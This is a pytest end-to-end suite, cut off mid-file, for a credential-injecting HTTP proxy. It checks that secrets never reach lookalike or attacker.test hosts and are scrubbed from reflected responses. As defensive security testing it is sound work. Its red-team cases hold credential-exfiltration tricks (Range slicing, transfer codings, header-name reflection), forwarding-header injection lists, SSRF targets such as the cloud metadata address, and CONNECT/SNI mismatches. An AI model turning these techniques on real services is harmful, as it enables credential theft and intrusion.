"""End to end: the real proxy daemon, real TLS (trustme CA), local upstreams pinned with
`[proxy] resolve`, curl on the host through the proxy with a run token, then every case of
redteam-public/proxy.md through real `vsh run --cred ... -- curl` in the sandbox."""

from __future__ import annotations

import base64
import contextlib
import gzip
import json
import os
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from conftest import BWRAP, REDTEAM, stop_warm, vsh_env

trustme = pytest.importorskip("trustme")

pytestmark = [pytest.mark.proxy, pytest.mark.skipif(not shutil.which("curl"), reason="curl is not installed")]

SECRET = "fal-SECRET-0123456789abcdefXYZ"
SECRET2 = "other-SECRET-9876543210zyxwvu"
NAMES = ["api.fal.run", "fal.run", "evilfal.run", "attacker.test", "fal.run.attacker.test", "other.test",
         "api2.fal.run", "deny.test"]
PROXY_CASES = REDTEAM / "proxy.md"


# -- upstreams ------------------------------------------------------------------------------------

class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _Upstream

    def log_message(self, *args: Any) -> None:
        pass

    def _handle(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        seen = {"method": self.command, "path": self.path, "headers": [[k, v] for k, v in self.headers.items()],
                "tls": isinstance(self.connection, ssl.SSLSocket), "body": body.decode(errors="replace")}
        self.server.seen.append(seen)
        host = (self.headers.get("Host") or "").split(":")[0]
        special = next((f for prefix, f in _SPECIAL.items() if self.path.startswith(prefix)), None)
        if special is not None:
            special(self, (self.headers.get("Authorization") or "").encode())
            return
        if self.path.startswith("/r302") or self.path.startswith("/r307"):
            code = int(self.path[2:5])
            self.send_response(code)
            self.send_header("Location", "https://attacker.test/landing")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if self.path.startswith("/status401"):
            payload = b"unauthorized\n"
            self.send_response(401)
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)
            return
        payload = json.dumps({"host": host, **seen}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        auth = self.headers.get("Authorization")
        if self.path.startswith("/reflect-header") and auth:
            self.send_header("X-Echo-Auth", auth)
        if self.path.startswith("/gzip"):
            payload = gzip.compress(payload)
            self.send_header("Content-Encoding", "gzip")
        if "chunked" in self.path:
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            for i in range(0, len(payload), 7):
                piece = payload[i:i + 7]
                self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
            self.wfile.write(b"0\r\n\r\n")
            return
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    do_GET = do_POST = do_PUT = do_DELETE = _handle

    def reply(self, status: int, payload: bytes, *headers: tuple[str, str], reason: str | None = None) -> None:
        self.send_response(status, reason)
        for name, value in headers:
            self.send_header(name, value)
        if not any(n.lower() == "transfer-encoding" for n, _ in headers):
            self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)


def _chunked(payload: bytes) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(payload[i:i + 7]), payload[i:i + 7])
                    for i in range(0, len(payload), 7)) + b"0\r\n\r\n"


def _up_range(h: _Handler, auth: bytes) -> None:
    """Honours `Range: bytes=a-b` on a reflection of the Authorization header (the red-team case)."""
    rng = h.headers.get("Range", "")
    if rng.startswith("bytes=") and "-" in rng:
        a, b = (int(x) for x in rng[6:].split("-"))
        piece = auth[a:b + 1]
        h.reply(206, piece, ("Content-Range", f"bytes {a}-{a + len(piece) - 1}/{len(auth)}"))
    else:
        h.reply(200, auth)


def _up_always_206(h: _Handler, auth: bytes) -> None:
    """A slice of the reflection, asked for or not."""
    h.reply(206, auth[:10], ("Content-Range", f"bytes 0-9/{len(auth)}"))


def _up_te(h: _Handler, auth: bytes) -> None:
    """A transfer coding the client asked for with TE (or always, for /te-always)."""
    if "gzip" in h.headers.get("TE", "") or h.path.startswith("/te-always"):
        h.send_response(200)
        h.send_header("Transfer-Encoding", "gzip, chunked")
        h.end_headers()
        h.wfile.write(_chunked(gzip.compress(auth)))
    else:
        h.reply(200, auth)


def _up_content_coding(h: _Handler, auth: bytes) -> None:
    """`/ce/<coding>`: claims that coding and sends the reflection as is."""
    h.reply(200, auth, ("Content-Encoding", h.path.split("/")[2]))


def _up_reason(h: _Handler, auth: bytes) -> None:
    h.reply(200, b"ok", reason=f"Echo {auth.decode()}")


def _up_header_name(h: _Handler, auth: bytes) -> None:
    h.reply(200, b"ok", (f"X-Echo-{auth.decode().split()[-1]}", "1"))


def _up_upgrade(h: _Handler, auth: bytes) -> None:
    """Switches to a raw protocol when asked and writes the reflection in it."""
    if not h.headers.get("Upgrade"):
        h.reply(200, b"no upgrade asked")
        return
    h.send_response(101)
    h.send_header("Upgrade", h.headers["Upgrade"])
    h.send_header("Connection", "Upgrade")
    h.end_headers()
    h.wfile.write(b"raw:" + auth + b"\n")
    h.wfile.flush()
    h.close_connection = True


def _up_utf16(h: _Handler, auth: bytes) -> None:
    h.reply(200, auth.decode().encode("utf-16-le"), ("Content-Type", "text/plain; charset=utf-16le"))


def _up_base64_header(h: _Handler, auth: bytes) -> None:
    """The whole Authorization header base64-encoded: the secret sits at an offset of 4 bytes."""
    h.reply(200, base64.b64encode(b"Authorization: " + auth))


_SPECIAL = {
    "/range": _up_range, "/always206": _up_always_206, "/te": _up_te, "/ce/": _up_content_coding,
    "/reason": _up_reason, "/header-name": _up_header_name, "/upgrade": _up_upgrade, "/utf16": _up_utf16,
    "/b64header": _up_base64_header,
}


class _Upstream(ThreadingHTTPServer):
    """HTTP and HTTPS on one port (TLS detected from the first byte), echoing what it received."""

    daemon_threads = True
    # socketserver's default backlog of 5 drops SYNs when fifty requests arrive at once (each
    # retried a second later); a real server listens with a deep backlog.
    request_queue_size = 128

    def __init__(self, ctx: ssl.SSLContext) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.ctx = ctx
        self.seen: list[dict[str, Any]] = []

    def finish_request(self, request: Any, client_address: Any) -> None:
        try:
            request.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            first = request.recv(1, socket.MSG_PEEK)
            if first == b"\x16":
                request = self.ctx.wrap_socket(request, server_side=True)
        except (OSError, ssl.SSLError):
            return
        super().finish_request(request, client_address)

    @property
    def port(self) -> int:
        return int(self.server_address[1])


@dataclass
class World:
    home: Path
    env: dict[str, str]
    upstream: _Upstream
    ca_file: Path
    cred_ids: dict[str, str] = field(default_factory=dict)

    def environment(self) -> Any:
        from vshell.environment import Environment

        return Environment(environ=dict(self.env))

    def seen_auth(self) -> list[str | None]:
        out = []
        for s in self.upstream.seen:
            out.append(next((v for k, v in s["headers"] if k.lower() == "authorization"), None))
        return out


def _add_cred(world: World, ref: str, host: str, value: str, prefix: str = "Key ", **kw: Any) -> None:
    from vshell.credentials import CredentialStore, HostTemplate
    from vshell.secret import Secret
    from vshell.state import StatePaths
    from vshell.vault import open_vault

    paths = StatePaths(world.home)
    cred = CredentialStore(paths).add(ref, [HostTemplate(host, prefix=prefix, **kw)])
    open_vault(paths, world.env).put(cred.id, Secret(value))
    world.cred_ids[ref] = cred.id


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    tmp = tmp_path_factory.mktemp("proxy-e2e")
    home = tmp / "vsh-home"
    home.mkdir(mode=0o700)
    ca = trustme.CA()
    ca_file = tmp / "upstream-ca.pem"
    ca.cert_pem.write_to_path(str(ca_file))
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert(*NAMES).configure_cert(ctx)
    upstream = _Upstream(ctx)
    threading.Thread(target=upstream.serve_forever, daemon=True).start()
    pins = ", ".join(f'"{n}" = "127.0.0.1:{upstream.port}"' for n in NAMES)
    (home / "config.toml").write_text(
        f'[network]\nallowed_domains = ["*"]\ndenied_domains = ["deny.test"]\n'
        f'[proxy]\nresolve = {{ {pins} }}\nextra_ca = ["{ca_file}"]\n'
        '[approval]\nauto_approve_up_to = "medium"\n'
    )
    env = vsh_env(home, VSH_VAULT_BACKEND="file")
    env.pop("VSH_VAULT_PASSPHRASE", None)
    w = World(home, env, upstream, ca_file)
    _add_cred(w, "fal/api_key", "*.fal.run", SECRET)
    _add_cred(w, "fal2/api_key", "api.fal.run", SECRET2)
    _add_cred(w, "other/token", "other.test", SECRET2, prefix="Bearer ")
    yield w
    from vshell.proxy import client

    client.stop(w.environment())
    stop_warm(home)
    upstream.shutdown()


@pytest.fixture
def seen(world: World) -> list[dict[str, Any]]:
    world.upstream.seen.clear()
    return world.upstream.seen


def _register(world: World, *refs: str) -> Any:
    from vshell.proxy import client

    from vshell.config import load_config
    from vshell.credentials import CredentialStore
    from vshell.state import StatePaths

    env = world.environment()
    creds = CredentialStore(StatePaths(world.home)).resolve(list(refs))
    return client.register_run(env, creds, load_config(StatePaths(world.home).config))


def _curl(world: World, chan: Any, url: str, *args: str, token: str | None = None,
          proxy: str | None = None) -> subprocess.CompletedProcess[str]:
    from vshell.proxy import client

    info = client.ensure_daemon(world.environment())
    tok = chan.token if token is None else token
    proxy = proxy or f"http://vsh:{tok}@127.0.0.1:{info.port}"
    # vsh's bundle (intercepted hosts) + the upstreams' CA (tunnels); written atomically (threads race)
    both = world.home / f"both-ca-{info.pid}.pem"
    if not both.exists():
        tmp = both.with_suffix(f".{threading.get_ident()}.tmp")
        tmp.write_bytes(info.ca_bundle.read_bytes() + world.ca_file.read_bytes())
        os.replace(tmp, both)
    cmd = ["curl", "-sS", "--max-time", "20", "--proxy", proxy, "--cacert", str(both),
           "-w", "\n%{http_code}", *args, url]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=60, env={"PATH": os.environ["PATH"]})


def _status(r: subprocess.CompletedProcess[str]) -> int:
    return int(r.stdout.rsplit("\n", 1)[-1] or 0)


def _audit(world: World, want: Any = None) -> list[dict[str, Any]]:
    """The proxy's audit entries; with `want`, wait (the daemon writes them from a thread) until
    one entry satisfies it."""
    from vshell import audit
    from vshell.state import StatePaths

    deadline = time.monotonic() + 5
    while True:
        entries = [e for e in audit.read(StatePaths(world.home), None) if e.get("kind") == "proxy"]
        if want is None or any(want(e) for e in entries) or time.monotonic() > deadline:
            return entries
        time.sleep(0.05)


# -- host-side: curl through the daemon with a run token ------------------------------------------

def test_injects_on_credential_host_and_never_shows_secret(world: World, seen: list[Any]) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, "https://api.fal.run/x?q=1")
    assert _status(r) == 200, r.stderr
    assert world.seen_auth() == [f"Key {SECRET}"]
    assert SECRET not in r.stdout
    assert "[REDACTED]" in r.stdout  # the echo reflected it; the proxy scrubbed it
    rec = [e for e in _audit(world, lambda e: e.get("path") == "/x" and e.get("decision") == "injected")
           if e.get("decision") == "injected"][-1]
    assert rec["host"] == "api.fal.run" and rec["path"] == "/x" and rec["candidates"] == ["fal/api_key"]
    assert SECRET not in json.dumps(_audit(world))


@pytest.mark.parametrize("url", ["https://fal.run/", "https://API.FAL.RUN./", "https://Api.Fal.Run/y"])
def test_bare_domain_case_and_trailing_dot(world: World, seen: list[Any], url: str) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, url)
    assert _status(r) == 200, r.stderr
    assert world.seen_auth() == [f"Key {SECRET}"]
    assert SECRET not in r.stdout


@pytest.mark.parametrize("url", ["https://evilfal.run/", "https://fal.run.attacker.test/", "https://attacker.test/"])
def test_lookalike_hosts_get_nothing_and_are_tunnelled(world: World, seen: list[Any], url: str) -> None:
    before = len(_audit(world))
    host = url.split("/")[2]
    with _register(world, "fal/api_key") as chan:
        # Tunnelled untouched: the client sees the upstream's own certificate (trustme CA).
        r = _curl(world, chan, url, "-H", "Authorization: Key client-sent")
    assert _status(r) == 200, r.stderr
    assert world.seen_auth() == ["Key client-sent"]
    assert SECRET not in r.stdout
    deadline = time.monotonic() + 5
    while not any(e.get("tunnelled") and e.get("host") == host for e in _audit(world)[before:]):
        assert time.monotonic() < deadline, "no tunnelled decision recorded"
        time.sleep(0.05)


def test_no_cred_run_gets_nothing(world: World, seen: list[Any]) -> None:
    with _register(world) as chan:
        r = _curl(world, chan, "https://api.fal.run/x")
    assert _status(r) == 200, r.stderr
    assert world.seen_auth() == [None]


def test_client_sent_credential_headers_are_replaced(world: World, seen: list[Any]) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, "https://api.fal.run/x", "-H", "Authorization: Bearer mine",
                  "-H", "Proxy-Authorization: Basic Zm9vOmJhcg==")
    assert _status(r) == 200, r.stderr
    headers = {k.lower(): v for k, v in seen[0]["headers"]}
    assert headers["authorization"] == f"Key {SECRET}"
    assert "proxy-authorization" not in headers


@pytest.mark.parametrize("path", ["/r302", "/r307"])
def test_redirect_hop_to_attacker_carries_nothing(world: World, seen: list[Any], path: str) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, f"https://api.fal.run{path}", "-L",
                  "-X", "POST" if path == "/r307" else "GET")
    assert _status(r) == 200, r.stderr
    assert [s["path"] for s in seen] == [path, "/landing"]
    assert world.seen_auth() == [f"Key {SECRET}", None]


def test_two_matching_credentials_block_with_403(world: World, seen: list[Any]) -> None:
    with _register(world, "fal/api_key", "fal2/api_key") as chan:
        r = _curl(world, chan, "https://api.fal.run/x")
    assert _status(r) == 403
    assert "fal/api_key" in r.stdout and "fal2/api_key" in r.stdout
    assert seen == []


@pytest.mark.parametrize("path", ["/reflect-header", "/gzip", "/chunked", "/gzip-chunked"])
def test_reflected_secret_is_scrubbed(world: World, seen: list[Any], path: str) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, f"https://api.fal.run{path}", "-i", "--compressed")
    assert _status(r) == 200, r.stderr
    assert world.seen_auth() == [f"Key {SECRET}"]
    assert SECRET not in r.stdout
    assert base64.b64encode(SECRET.encode()).decode() not in r.stdout


# -- red team: reflections the scrubber must see whole, credentials that must not be rerouted ------

def _body(r: subprocess.CompletedProcess[str]) -> str:
    return r.stdout.rsplit("\n", 1)[0]


def _upstream_header_names(seen: list[dict[str, Any]]) -> set[str]:
    return {k.lower() for s in seen for k, _ in s["headers"]}


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_range_slices_never_reassemble_the_secret(world: World, seen: list[Any], version: str) -> None:
    """An upstream that honours Range, asked for the reflected Authorization header in 10-byte
    slices: no slice holds the whole secret, so none would be scrubbed."""
    with _register(world, "fal/api_key") as chan:
        slices = [_curl(world, chan, "https://api.fal.run/range", version, "-r", f"{i}-{i + 9}", "-H", "If-Range: x")
                  for i in range(0, 40, 10)]
    assert SECRET not in "".join(_body(r) for r in slices)
    assert [_status(r) for r in slices] == [200] * 4, [r.stderr for r in slices]
    assert world.seen_auth() == [f"Key {SECRET}"] * 4
    assert not _upstream_header_names(seen) & {"range", "if-range"}


def test_partial_response_on_a_scrubbed_flow_is_refused(world: World, seen: list[Any]) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, "https://api.fal.run/always206")
    assert _status(r) == 502, r.stdout
    assert "Key fal-SE" not in r.stdout
    assert any("206" in str(e.get("note")) for e in _audit(world, lambda e: "206" in str(e.get("note"))))


def _leaks(data: bytes) -> bool:
    """Whether `data`, or what it gunzips to, holds the secret."""
    with contextlib.suppress(OSError, EOFError, zlib.error):
        data += gzip.decompress(data)
    return SECRET.encode() in data


def test_transfer_codings_are_neither_asked_for_nor_relayed(world: World, seen: list[Any], tmp_path: Path) -> None:
    """`TE: gzip` would have the upstream gzip the reflection as a transfer coding, which mitmproxy
    leaves in place (no Content-Encoding): the scrubber sees only gzip, the client gunzips it."""
    asked_out, forced_out = tmp_path / "asked", tmp_path / "forced"
    with _register(world, "fal/api_key") as chan:
        # HTTP/1.1: over HTTP/2 (curl's default with the proxy) TE may only say "trailers".
        asked = _curl(world, chan, "https://api.fal.run/te", "--http1.1", "--tr-encoding", "-o", str(asked_out))
        forced = _curl(world, chan, "https://api.fal.run/te-always", "--http1.1", "--tr-encoding",
                       "-o", str(forced_out))
    assert not _leaks(asked_out.read_bytes())
    assert not _leaks(forced_out.read_bytes())
    assert _status(asked) == 200, asked.stderr
    assert b"[REDACTED]" in asked_out.read_bytes()
    assert "te" not in _upstream_header_names(seen)
    assert _status(forced) == 502, forced.stdout


@pytest.mark.parametrize("coding", ["rot13", "compress", "x-unknown"])
def test_content_coding_the_scrubber_cannot_undo_is_refused(world: World, seen: list[Any], coding: str) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, f"https://api.fal.run/ce/{coding}", "--raw")
    assert _status(r) == 502, r.stdout
    assert SECRET not in r.stdout


def test_accept_encoding_is_narrowed_to_what_the_scrubber_decodes(world: World, seen: list[Any]) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, "https://api.fal.run/x", "-H", "Accept-Encoding: compress, x-custom;q=0.9, gzip;q=0.5, *",
                  "-H", "Accept-Charset: utf-16")
    assert _status(r) == 200, r.stderr
    headers = {k.lower(): v for k, v in seen[0]["headers"]}
    assert headers["accept-encoding"] == "gzip;q=0.5"
    assert "accept-charset" not in headers


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_status_reason_and_header_names_are_scrubbed(world: World, seen: list[Any], version: str) -> None:
    with _register(world, "fal/api_key") as chan:
        reason = _curl(world, chan, "https://api.fal.run/reason", "-i", version)
        name = _curl(world, chan, "https://api.fal.run/header-name", "-i", version)
    assert _status(reason) == 200 and _status(name) == 200, reason.stderr + name.stderr
    assert SECRET not in reason.stdout
    if version == "--http1.1":
        assert "\nHTTP/1.1 200 Echo Key [REDACTED]\n" in reason.stdout, reason.stdout[:200]
    assert SECRET not in name.stdout and "x-echo-" not in name.stdout.lower()


def test_non_websocket_upgrade_on_a_scrubbed_flow_is_refused(world: World, seen: list[Any]) -> None:
    """After a 101 mitmproxy relays raw bytes (rawtcp), which nothing scrubs."""
    from vshell.proxy import client

    info = client.ensure_daemon(world.environment())
    with _register(world, "fal/api_key") as chan:
        s = _connect_tunnel(chan.port, chan.token, "api.fal.run:443")
        s.settimeout(10)
        out = _tls_exchange(s, "api.fal.run", b"GET /upgrade HTTP/1.1\r\nHost: api.fal.run\r\nUpgrade: echo\r\n"
                            b"Connection: Upgrade\r\n\r\n", info.ca_bundle)
    assert SECRET.encode() not in out
    assert out.startswith(b"HTTP/1.1 502"), out[:200]
    assert world.seen_auth() == [f"Key {SECRET}"]


def _base64_windows(text: str) -> bytes:
    """Every byte string the base64 runs in `text` decode to, at every alignment."""
    out = b""
    for run in text.replace("[REDACTED]", " ").split():
        for k in range(4):
            part = run[k:]
            part = part[:len(part) - len(part) % 4]
            with contextlib.suppress(ValueError):
                out += base64.b64decode(part) + b"|"
    return out


@pytest.mark.parametrize("path", ["/utf16", "/b64header"])
def test_transformed_reflections_are_scrubbed(world: World, seen: list[Any], path: str) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, f"https://api.fal.run{path}")
    assert _status(r) == 200, r.stderr
    body = _body(r)
    assert "[REDACTED]" in body.replace("\0", "")
    assert SECRET.encode("utf-16-le").decode() not in body
    decoded = _base64_windows(body)
    assert not any(SECRET[i:i + 6].encode() in decoded for i in range(len(SECRET) - 5)), decoded


FORWARDING = ["X-Forwarded-Host: attacker.test", "Forwarded: for=1.2.3.4;host=attacker.test;proto=http",
              "X-Forwarded-For: 10.0.0.1", "X-Forwarded-Proto: http", "X-Forwarded-Port: 80",
              "X-Forwarded-Prefix: /evil", "X-Original-URL: /admin", "X-Rewrite-URL: /admin",
              "X-Original-Host: attacker.test", "X-Host: attacker.test", "X-HTTP-Method-Override: DELETE",
              "X-HTTP-Method: DELETE", "X-Method-Override: DELETE", "X-Forwarded-Anything: x",
              "X-Real-IP: 10.0.0.1", "True-Client-IP: 10.0.0.1"]


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_forwarding_headers_never_reach_the_credential_host(world: World, seen: list[Any], version: str) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, "https://api.fal.run/fwd", version, *[a for h in FORWARDING for a in ("-H", h)])
    assert _status(r) == 200, r.stderr
    assert world.seen_auth() == [f"Key {SECRET}"]
    sent = {h.split(":")[0].lower() for h in FORWARDING}
    assert not _upstream_header_names(seen) & sent
    rec = [e for e in _audit(world, lambda e: e.get("path") == "/fwd" and e.get("dropped_headers"))
           if e.get("path") == "/fwd" and e.get("decision") == "injected"][-1]
    assert {h.lower() for h in rec["dropped_headers"]} == sent


def test_forwarding_headers_pass_where_nothing_is_injected(world: World, seen: list[Any]) -> None:
    """Only a credentialed request loses them; a host the run has no credential for is tunnelled."""
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, "https://attacker.test/fwd", "-H", "X-Forwarded-Host: example.test")
    assert _status(r) == 200, r.stderr
    assert "x-forwarded-host" in _upstream_header_names(seen)


def test_pub_c10_without_token_407_and_nothing_sent(world: World, seen: list[Any]) -> None:
    with _register(world, "fal/api_key") as chan:
        for token in ("", "wrong-token-" + "x" * 40):
            proxy = None if token else f"http://127.0.0.1:{chan.port}"
            r = _curl(world, chan, "https://api.fal.run/x", token=token or None, proxy=proxy)
            assert _status(r) in (0, 407), r
            r = _curl(world, chan, "http://api.fal.run/x", token=token or None, proxy=proxy)
            assert _status(r) == 407
    assert seen == []
    assert any(e.get("decision") == "unauthenticated"
               for e in _audit(world, lambda e: e.get("decision") == "unauthenticated"))


def test_token_dies_with_its_channel(world: World, seen: list[Any]) -> None:
    chan = _register(world, "fal/api_key")
    chan.close()
    time.sleep(0.2)
    r = _curl(world, chan, "https://api.fal.run/x")
    assert _status(r) in (0, 407)
    assert seen == []


@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:{port}/",
                                 "https://127.0.0.1:{port}/", "http://[::1]:{port}/", "http://10.0.0.1/",
                                 "http://100.64.0.1/", "http://[fd00:ec2::254]/", "http://0.0.0.0:{port}/",
                                 "http://[::ffff:127.0.0.1]:{port}/", "http://2130706433:{port}/",
                                 "http://[::7f00:1]:{port}/", "https://[::a9fe:a9fe]/", "http://[::ffff:0:7f00:1]:{port}/",
                                 "http://[64:ff9b::a9fe:a9fe]/", "http://[64:ff9b:1::7f00:1]:{port}/",
                                 "http://[2002:7f00:1::]:{port}/", "http://[fec0::1]/", "http://198.18.0.1/",
                                 "http://[2001::1]/"])
def test_private_addresses_refused(world: World, seen: list[Any], url: str) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, url.format(port=world.upstream.port))
    assert _status(r) in (0, 403), r
    assert seen == []


def test_denied_domain_refused(world: World, seen: list[Any]) -> None:
    with _register(world) as chan:
        r = _curl(world, chan, "https://deny.test/")
        assert _status(r) in (0, 403)
        r = _curl(world, chan, "http://deny.test/")
        assert _status(r) == 403
    assert seen == []


def test_cleartext_http_never_injected(world: World, seen: list[Any]) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, "http://api.fal.run/x")
    assert _status(r) == 200, r.stderr
    assert world.seen_auth() == [None]
    assert seen[0]["tls"] is False


def test_401_logs_hints(world: World, seen: list[Any]) -> None:
    with _register(world, "fal/api_key") as chan:
        r = _curl(world, chan, "https://api.fal.run/status401")
    assert _status(r) == 401
    rec = [e for e in _audit(world, lambda e: e.get("status") == 401) if e.get("status") == 401][-1]
    assert rec["hints"] and any("fal/api_key" in h for h in rec["hints"])


# -- raw sockets: CONNECT/SNI/Host disagreement -------------------------------------------------------

def _connect_tunnel(port: int, token: str, authority: str) -> socket.socket:
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    auth = base64.b64encode(f"vsh:{token}".encode()).decode()
    s.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\nProxy-Authorization: Basic {auth}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            break
        head += chunk
    assert head.startswith(b"HTTP/1.1 200"), head
    return s


def _tls_request(s: socket.socket, sni: str, host_header: str, cafile: Path) -> bytes:
    ctx = ssl.create_default_context(cafile=str(cafile))
    ctx.check_hostname = False
    try:
        with ctx.wrap_socket(s, server_hostname=sni) as t:
            t.sendall(f"GET /x HTTP/1.1\r\nHost: {host_header}\r\nConnection: close\r\n\r\n".encode())
            out = b""
            while chunk := t.recv(65536):
                out += chunk
            return out
    except (ssl.SSLError, OSError) as e:
        return f"ERROR {e}".encode()


def _tls_exchange(s: socket.socket, sni: str, request: bytes, cafile: Path) -> bytes:
    """TLS on `s`, send `request`, everything read until the peer closes (or an ERROR line)."""
    ctx = ssl.create_default_context(cafile=str(cafile))
    ctx.check_hostname = False
    out = b""
    try:
        with ctx.wrap_socket(s, server_hostname=sni) as t:
            t.sendall(request)
            while chunk := t.recv(65536):
                out += chunk
            return out
    except (ssl.SSLError, OSError) as e:
        return out + f"ERROR {e}".encode()


@pytest.mark.parametrize(("authority", "sni", "host"), [
    ("attacker.test:443", "attacker.test", "api.fal.run"),
    ("attacker.test:443", "api.fal.run", "api.fal.run"),
    ("api.fal.run:443", "attacker.test", "api.fal.run"),
    ("api.fal.run:443", "api.fal.run", "attacker.test"),
    ("api.fal.run:443", "api.fal.run", "api.fal.run:8443"),
])
def test_connect_sni_host_disagreement_never_injects(world: World, seen: list[Any], authority: str, sni: str,
                                                     host: str) -> None:
    from vshell.proxy import client

    info = client.ensure_daemon(world.environment())
    bundle = world.home / "both-ca.pem"
    bundle.write_bytes(info.ca_bundle.read_bytes() + world.ca_file.read_bytes())
    with _register(world, "fal/api_key") as chan:
        out = _tls_request(_connect_tunnel(chan.port, chan.token, authority), sni, host, bundle)
    assert SECRET.encode() not in out
    assert all(a is None for a in world.seen_auth())
    if not authority.startswith("attacker.test") or sni != "attacker.test":
        # The proxy saw the disagreement: refused, nothing sent upstream.
        assert b" 403 " in out.split(b"\r\n", 1)[0] or out.startswith(b"ERROR"), out[:200]
        assert seen == []


def test_plain_http_inside_connect_with_other_host_refused(world: World, seen: list[Any]) -> None:
    with _register(world, "fal/api_key") as chan:
        s = _connect_tunnel(chan.port, chan.token, "attacker.test:80")
        s.sendall(b"GET /x HTTP/1.1\r\nHost: api.fal.run\r\nConnection: close\r\n\r\n")
        out = b""
        while chunk := s.recv(65536):
            out += chunk
        s.close()
    assert out.startswith(b"HTTP/1.1 403"), out[:200]
    assert seen == []


@pytest.mark.parametrize("raw", [
    b"CONNECT api.fal.run:443 HTTP/1.1\r\nHost: api.fal.run\r\n\r\n",
    b"CONNECT api.fal.run:443 HTTP/1.1\r\nProxy-Authorization: Basic !!!\r\n\r\n",
    b"GET http://api.fal.run/ HTTP/1.1\r\nHost: api.fal.run\r\nProxy-Authorization: Bearer x\r\n\r\n",
    b"GARBAGE\r\n\r\n",
    b"CONNECT  HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: api.fal.run\r\n\r\n",
])
def test_malformed_and_unauthenticated_raw_requests(world: World, seen: list[Any], raw: bytes) -> None:
    from vshell.proxy import client

    info = client.ensure_daemon(world.environment())
    with socket.create_connection(("127.0.0.1", info.port), timeout=10) as s:
        s.sendall(raw)
        out = b""
        try:
            while chunk := s.recv(65536):
                out += chunk
                if b"\r\n\r\n" in out:
                    break
        except OSError:
            pass
    status = out.split(b"\r\n", 1)[0]
    assert not status.startswith(b"HTTP/1.1 2"), out[:200]
    assert seen == []


# -- the unix socket and concurrency -----------------------------------------------------------------

def test_unix_socket_speaks_the_same_proxy(world: World, seen: list[Any]) -> None:
    with _register(world, "fal/api_key") as chan:
        # curl 7.x ignores --proxy with --unix-socket and speaks TLS straight to the proxy: that
        # request carries no token, so it must be refused (407), never injected.
        r = subprocess.run(
            ["curl", "-sS", "--max-time", "20", "--unix-socket", str(chan.socket_path), "-w", "\n%{http_code}",
             "--proxy", f"http://vsh:{chan.token}@localhost:3128", "--cacert", str(chan.ca_bundle),
             "https://api.fal.run/x"], capture_output=True, text=True, timeout=60)
    assert _status(r) in (0, 407), r.stdout + r.stderr
    assert seen == []
    with _register(world, "fal/api_key") as chan:
        s = socket.socket(socket.AF_UNIX)
        s.connect(str(chan.socket_path))
        auth = base64.b64encode(f"vsh:{chan.token}".encode()).decode()
        s.sendall(f"CONNECT api.fal.run:443 HTTP/1.1\r\nHost: api.fal.run:443\r\nProxy-Authorization: Basic {auth}\r\n\r\n".encode())
        head = s.recv(4096)
        assert head.startswith(b"HTTP/1.1 200")
        out = _tls_request(s, "api.fal.run", "api.fal.run", chan.ca_bundle)
    assert b" 200 " in out.split(b"\r\n", 1)[0]
    assert SECRET.encode() not in out
    assert world.seen_auth()[-1] == f"Key {SECRET}"


def _many_creds(world: World, n: int = 50) -> list[str]:
    """n credentials all matching api.fal.run, each with its own value `value-<i>-zzz…`."""
    from vshell.credentials import CredentialStore, HostTemplate
    from vshell.errors import CredentialError
    from vshell.secret import Secret
    from vshell.state import StatePaths
    from vshell.vault import open_vault

    paths = StatePaths(world.home)
    store = CredentialStore(paths)
    vault = open_vault(paths, world.env)
    refs = []
    for i in range(n):
        ref = f"many{i}/key"
        try:
            store.get(ref)
        except CredentialError:
            cred = store.add(ref, [HostTemplate("api.fal.run", prefix=f"K{i} ")])
            vault.put(cred.id, Secret(f"value-{i}-{'z' * 20}"))
        refs.append(ref)
    return refs


def test_fifty_concurrent_tokens_never_cross(world: World, seen: list[Any], tmp_path: Path) -> None:
    """50 concurrent registrations with distinct credentials and tokens each see only their own
